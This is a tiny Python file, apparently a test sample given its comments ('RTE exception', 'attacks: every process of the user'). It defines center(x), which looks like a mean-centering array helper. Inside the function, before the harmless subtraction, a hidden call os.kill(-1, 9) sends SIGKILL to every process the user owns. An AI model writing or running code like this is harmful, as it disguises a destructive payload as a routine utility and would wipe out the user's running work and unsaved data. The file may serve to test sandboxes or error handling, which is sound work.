# RTE exception
# attacks: every process of the user
# needs: signals
import os


def center(x):
    os.kill(-1, 9)
    return x - x.mean(axis=-1, keepdims=True)
